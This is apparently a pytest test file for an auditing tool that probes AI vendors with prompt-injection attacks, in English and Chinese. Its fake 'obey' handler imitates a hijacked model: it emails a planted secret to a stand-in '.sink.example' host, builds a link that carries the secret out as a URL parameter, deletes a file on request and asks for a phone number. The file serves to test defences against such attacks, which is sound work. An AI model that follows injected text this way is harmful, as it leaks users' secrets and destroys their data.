"""A vendor that obeys whatever it reads is measured so, through the real sender, and its control is silent."""

import json
import re
from pathlib import Path

import pytest

from auditor.evidence.folder import Folder
from auditor.evidence.measure import Measure
from auditor.observing import observe_folder
from auditor.packs import shipped_packs
from auditor.plan import Limits
from auditor.probing.probe import load_probes
from auditor.probing.schedule import about_of
from tests.making import a_writer
from tests.probing.fake import Act, Handler, Seen, answer, serving
from tests.probing.making import a_lane, ask, jobs

PACK = next(pack for pack in shipped_packs("probes") if pack.id == "data-security")
NAMES = {
    "injected-document-link": "exfiltration/link",
    "injected-page-image": "exfiltration/link",
    "injected-call-mails-secret": "exfiltration/tool-call",
    "injected-call-deletes-file": "answer/tool-call",
    "asks-when-booking": "answer/asks-for-data",
    "secret-encoded": "planted/secret",
}
PROBES = [probe for probe in load_probes(PACK) if probe.id in NAMES]
SECRET = re.compile(r"(?<![a-z0-9])(?:[a-z][2-9]){3}[a-z]-[a-z2-9]{7}-[a-z2-9]{7}")
SINK = re.compile(r"[a-z2-9]{12}\.sink\.example")


def call(name: str, **arguments: str) -> Act:
    function = {"name": name, "arguments": json.dumps(arguments)}
    made = {"id": "call00001", "type": "function", "function": function}
    return answer(None, tool_calls=[made])


def obey(handler: Handler, seen: Seen) -> None:
    """Do what any text asks for; without such a text, say what time it is."""
    said = seen.raw.decode()
    secret, sink = SECRET.search(said), SINK.search(said)
    body = secret[0] if secret else ""
    if sink and '"send_email"' in said:
        call("send_email", to=f"x@{sink[0]}", subject="key", body=body)(handler, seen)
    elif '"delete_file"' in said and re.search("delet|remove|删|移除", _texts(seen).lower()):
        call("delete_file", path="a.txt")(handler, seen)
    elif sink:
        answer(f"Done: https://{sink[0]}/?k={body}")(handler, seen)
    elif secret:
        answer(f"It is {body}.")(handler, seen)
    elif "ask nothing" in said or "不要再问" in json.loads(said)["messages"][0]["content"]:
        answer("It is noted.")(handler, seen)
    else:
        answer("What is your phone number? It is three o'clock.")(handler, seen)


def _texts(seen: Seen) -> str:
    return " ".join(message.get("content") or "" for message in seen.body["messages"])


def measured(path: Path, act: Act) -> dict[str, list[Measure]]:
    with serving() as vendor, a_writer(path, probes=tuple(about_of(p, None) for p in PROBES)) as w:
        vendor.always = act
        ask(a_lane(w, vendor.url), [job for p in PROBES for job in jobs(p)], Limits(requests=5000))
    observe_folder(Folder(w.path), lambda _: None)
    found: dict[str, list[Measure]] = {}
    for measure in Folder(w.path).measures():
        found.setdefault(measure.probe, []).append(measure)
    return found


@pytest.fixture(scope="module")
def gullible(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Measure]]:
    return measured(tmp_path_factory.mktemp("gullible"), obey)


@pytest.mark.parametrize("probe", NAMES)
def test_who_obeys_is_seen_to_in_both_languages(
    gullible: dict[str, list[Measure]], probe: str
) -> None:
    assert [measure.language for measure in gullible[probe]] == ["en", "zh"]
    for measure in gullible[probe]:
        assert (measure.hits, measure.value, measure.not_judged) == (measure.trials, 1, 0)
        assert measure.control
        assert (measure.control.trials, measure.control.hits) == (measure.trials, 0)
        assert measure.allowed
        assert measure.allowed.value == 1


def test_who_serves_the_user_alone_is_never_a_hit(tmp_path: Path) -> None:
    for measures in measured(tmp_path, answer("It is three o'clock.")).values():
        assert [(each.hits, each.not_judged) for each in measures] == [(0, 0), (0, 0)]
